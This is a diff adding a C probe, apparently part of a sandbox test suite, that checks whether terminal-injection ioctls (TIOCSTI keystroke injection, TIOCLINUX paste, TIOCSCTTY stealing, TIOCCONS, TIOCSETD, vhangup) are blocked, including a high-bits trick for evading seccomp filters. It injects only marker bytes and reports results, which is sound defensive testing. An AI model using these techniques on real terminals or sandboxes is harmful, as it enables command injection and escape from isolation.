@@ -1,0 +1,263 @@
+/* S22: terminal injection: TIOCSTI (also with the 32-bit request hidden under high bits of the 64-bit register), TIOCLINUX paste, TIOCSCTTY steal, TIOCCONS, TIOCSETD, vhangup, on fds 0-2, /dev/tty, /dev/console, /dev/ptmx, the parent's fds. */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <netinet/in.h>
+#include <arpa/inet.h>
+#include <sys/syscall.h>
+#include <sys/types.h>
+#include <sys/wait.h>
+
+/* Arguments (same order in every syscall attack):
+ * 1 {nonce} 2 {scratch} 3 {canary_file} 4 {tcp_port} 5 {udp_port} 6 {supervisor_pid} 7 {runner_pid} */
+static const char *NONCE = "nononce", *SCRATCH = "/tmp", *CANARY = "/nonexistent";
+static int TCP_PORT = 0, UDP_PORT = 0, SUPV_PID = 0, RUNNER_PID = 0;
+static int n_escaped = 0, n_denied = 0;
+
+static __attribute__((unused)) void args(int argc, char **argv)
+{
+    if (argc > 1) NONCE = argv[1];
+    if (argc > 2) SCRATCH = argv[2];
+    if (argc > 3) CANARY = argv[3];
+    if (argc > 4) TCP_PORT = atoi(argv[4]);
+    if (argc > 5) UDP_PORT = atoi(argv[5]);
+    if (argc > 6) SUPV_PID = atoi(argv[6]);
+    if (argc > 7) RUNNER_PID = atoi(argv[7]);
+    setvbuf(stdout, NULL, _IOLBF, 0);
+}
+
+/* One self-report line per probe. */
+static __attribute__((unused)) void report(int escaped, const char *fmt, ...)
+{
+    char what[400];
+    va_list ap;
+    va_start(ap, fmt);
+    vsnprintf(what, sizeof what, fmt, ap);
+    va_end(ap);
+    for (char *p = what; *p; p++)
+        if (*p == '\n') *p = ' ';
+    printf("GAUNTLET-REPORT %s %s %s\n", NONCE, escaped ? "escaped" : "denied", what);
+    fflush(stdout);
+    if (escaped) n_escaped++; else n_denied++;
+}
+
+/* Raw syscall returning -errno on failure. */
+static __attribute__((unused)) long rs(long nr, long a, long b, long c, long d, long e, long f)
+{
+    long r = syscall(nr, a, b, c, d, e, f);
+    return r == -1 ? -errno : r;
+}
+
+static __attribute__((unused)) const char *en(long r)
+{
+    static char buf[8][64];
+    static int i;
+    i = (i + 1) % 8;
+    if (r >= 0) snprintf(buf[i], sizeof buf[i], "ok(%ld)", r);
+    else snprintf(buf[i], sizeof buf[i], "%s", strerror((int)-r));
+    return buf[i];
+}
+
+/* Print a file's first bytes (the host scans stdout for the canary token). */
+static __attribute__((unused)) int dump_fd(const char *label, int fd)
+{
+    char buf[512];
+    ssize_t n = read(fd, buf, sizeof buf - 1);
+    if (n > 0) {
+        buf[n] = 0;
+        printf("[%s] read %zd bytes: %s\n", label, n, buf);
+        return 1;
+    }
+    printf("[%s] read: %s\n", label, n < 0 ? strerror(errno) : "EOF");
+    return 0;
+}
+
+static __attribute__((unused)) int try_read_path(const char *path)
+{
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0) {
+        printf("open %s: %s\n", path, strerror(errno));
+        return 0;
+    }
+    int got = dump_fd(path, fd);
+    close(fd);
+    return got;
+}
+
+/* Run fn in a forked child bounded by alarm(secs); returns the wait status (or -1). */
+static __attribute__((unused)) int in_child(int (*fn)(void *), void *arg, unsigned secs)
+{
+    fflush(stdout);
+    pid_t p = fork();
+    if (p < 0) return -1;
+    if (p == 0) {
+        alarm(secs);
+        _exit(fn(arg) & 0xff);
+    }
+    int st = 0;
+    if (waitpid(p, &st, 0) < 0) return -1;
+    return st;
+}
+
+static __attribute__((unused)) const char *wstr(int st)
+{
+    static char buf[4][64];
+    static int i;
+    i = (i + 1) % 4;
+    if (st == -1) snprintf(buf[i], sizeof buf[i], "fork failed");
+    else if (WIFEXITED(st)) snprintf(buf[i], sizeof buf[i], "exit %d", WEXITSTATUS(st));
+    else if (WIFSIGNALED(st)) snprintf(buf[i], sizeof buf[i], "signal %d (%s)", WTERMSIG(st), strsignal(WTERMSIG(st)));
+    else snprintf(buf[i], sizeof buf[i], "status 0x%x", st);
+    return buf[i];
+}
+
+/* pstat-judged attacks stay alive so the host sampler sees their status, namespaces and /dev. */
+static __attribute__((unused)) void linger(void)
+{
+    printf("done: %d escaped, %d denied; lingering for the host sampler\n", n_escaped, n_denied);
+    fflush(stdout);
+    usleep(400000);
+}
+
+/* A TCP connect + send to the honeypot on 127.0.0.1 (the only address these attacks ever contact). */
+static __attribute__((unused)) int tcp_hit(const char *msg)
+{
+    if (TCP_PORT <= 0) return 0;
+    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    if (s < 0) return 0;
+    struct sockaddr_in sa = {0};
+    sa.sin_family = AF_INET;
+    sa.sin_port = htons((unsigned short)TCP_PORT);
+    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    int ok = connect(s, (struct sockaddr *)&sa, sizeof sa) == 0;
+    if (ok && msg) { ssize_t w = write(s, msg, strlen(msg)); (void)w; }
+    printf("tcp connect 127.0.0.1:%d: %s\n", TCP_PORT, ok ? "CONNECTED" : strerror(errno));
+    close(s);
+    return ok;
+}
+
+/* A line of /proc/self/status (e.g. "CapEff"), value copied to out. */
+static __attribute__((unused)) int status_field(const char *pid, const char *key, char *out, size_t n)
+{
+    char path[64], line[256];
+    snprintf(path, sizeof path, "/proc/%s/status", pid);
+    FILE *f = fopen(path, "r");
+    if (!f) return 0;
+    size_t kl = strlen(key);
+    int found = 0;
+    while (fgets(line, sizeof line, f)) {
+        if (!strncmp(line, key, kl) && line[kl] == ':') {
+            char *v = line + kl + 1;
+            while (*v == ' ' || *v == '\t') v++;
+            v[strcspn(v, "\n")] = 0;
+            size_t vl = strlen(v);
+            if (vl >= n) vl = n - 1;
+            memcpy(out, v, vl);
+            out[vl] = 0;
+            found = 1;
+            break;
+        }
+    }
+    fclose(f);
+    return found;
+}
+
+static __attribute__((unused)) unsigned long long ns_ino(const char *pid, const char *ns)
+{
+    char p[64];
+    struct stat st;
+    snprintf(p, sizeof p, "/proc/%s/ns/%s", pid, ns);
+    return stat(p, &st) == 0 ? (unsigned long long)st.st_ino : 0;
+}
+#include <sys/ioctl.h>
+#include <termios.h>
+
+static char marker[80];
+
+static void on_fd(int fd, const char *name)
+{
+    if (fd < 0) return;
+    int istty = isatty(fd);
+    pid_t sid = -1, pg = -1;
+    ioctl(fd, TIOCGSID, &sid);
+    ioctl(fd, TIOCGPGRP, &pg);
+    printf("%s: isatty=%d sid=%d pgrp=%d (our sid %d)\n", name, istty, sid, pg, getsid(0));
+    /* TIOCSTI: one harmless byte at a time (a '#' comment marker, never a newline) */
+    int injected = 0;
+    for (const char *c = marker; *c; c++) {
+        long r = rs(SYS_ioctl, fd, TIOCSTI, (long)c, 0, 0, 0);
+        if (r != 0) { if (c == marker) report(0, "TIOCSTI on %s %s", name, en(r)); break; }
+        injected++;
+    }
+    if (injected) report(1, "TIOCSTI on %s injected %d bytes", name, injected);
+    /* the request is an unsigned int in the kernel: a filter comparing all 64 bits would miss these */
+    const unsigned long hi[] = {0x100000000UL | TIOCSTI, 0xffffffff00000000UL | TIOCSTI, 0x8000000000000000UL | TIOCSTI};
+    for (int i = 0; i < 3; i++) {
+        long r = rs(SYS_ioctl, fd, (long)hi[i], (long)"#", 0, 0, 0);
+        report(r == 0, "TIOCSTI-high-bits 0x%lx on %s %s", hi[i], name, en(r));
+    }
+    /* TIOCLINUX: set selection / paste selection / report mouse (virtual consoles) */
+    char sub[8] = {3 /*TIOCL_PASTESEL*/};
+    long r = rs(SYS_ioctl, fd, TIOCLINUX, (long)sub, 0, 0, 0);
+    report(r == 0, "TIOCLINUX-pastesel on %s %s", name, en(r));
+    r = rs(SYS_ioctl, fd, 0x100000000UL | TIOCLINUX, (long)sub, 0, 0, 0);
+    report(r == 0, "TIOCLINUX-high-bits on %s %s", name, en(r));
+    /* make it our controlling terminal, stealing it (arg 1) if another session owns it */
+    r = rs(SYS_ioctl, fd, TIOCSCTTY, 1, 0, 0, 0);
+    report(r == 0, "TIOCSCTTY(steal) on %s %s", name, en(r));
+    r = rs(SYS_ioctl, fd, 0x100000000UL | TIOCSCTTY, 0, 0, 0, 0);
+    report(r == 0, "TIOCSCTTY-high-bits on %s %s", name, en(r));
+    r = rs(SYS_ioctl, fd, TIOCCONS, 0, 0, 0, 0);
+    report(r == 0, "TIOCCONS (redirect console) on %s %s", name, en(r));
+    if (r == 0) rs(SYS_ioctl, fd, TIOCCONS, 0, 0, 0, 0);
+    /* line discipline change (N_TTY = 0, i.e. no change on a normal tty): the policy means to deny
+     * TIOCSETD outright, so any answer but EPERM shows the filter let it reach the tty layer */
+    int ldisc = 0;
+    r = rs(SYS_ioctl, fd, TIOCSETD, (long)&ldisc, 0, 0, 0);
+    report(r != -EPERM, "TIOCSETD (0x%x) on %s %s%s", TIOCSETD, name, en(r), r != -EPERM ? " (seccomp let it through)" : "");
+    r = rs(SYS_ioctl, fd, 0x100000000UL | TIOCSETD, (long)&ldisc, 0, 0, 0);
+    report(r != -EPERM, "TIOCSETD-high-bits on %s %s", name, en(r));
+}
+
+int main(int argc, char **argv)
+{
+    args(argc, argv);
+    snprintf(marker, sizeof marker, "#gauntlet-%s", NONCE);
+    char sid[64] = "", nnp[8] = "";
+    status_field("self", "NSsid", sid, sizeof sid);
+    status_field("self", "NoNewPrivs", nnp, sizeof nnp);
+    printf("session %d, pgrp %d, pid %d, NSsid %s\n", getsid(0), getpgrp(), getpid(), sid);
+    report(getsid(0) != getpid(), "own session (sid %d vs pid %d): session shared with the caller", getsid(0), getpid());
+    on_fd(0, "fd0");
+    on_fd(1, "fd1");
+    on_fd(2, "fd2");
+    const char *devs[] = {"/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ptmx", "/dev/pts/0", "/dev/pts/1", "/proc/self/fd/0"};
+    for (size_t i = 0; i < sizeof devs / sizeof *devs; i++) {
+        int fd = open(devs[i], O_RDWR | O_NOCTTY | O_NONBLOCK);
+        if (fd < 0) { printf("open %s: %s\n", devs[i], strerror(errno)); continue; }
+        on_fd(fd, devs[i]);
+        close(fd);
+    }
+    /* the parent's (supervisor's, without a pid ns) terminal descriptors */
+    for (int i = 0; i < 3; i++) {
+        char p[64];
+        snprintf(p, sizeof p, "/proc/%d/fd/%d", getppid(), i);
+        int fd = open(p, O_RDWR | O_NOCTTY | O_NONBLOCK);
+        if (fd < 0) { printf("open %s: %s\n", p, strerror(errno)); continue; }
+        on_fd(fd, p);
+        close(fd);
+    }
+    long r = rs(SYS_vhangup, 0, 0, 0, 0, 0, 0);
+    report(r == 0, "vhangup %s", en(r));
+    linger();
+    return 0;
+}
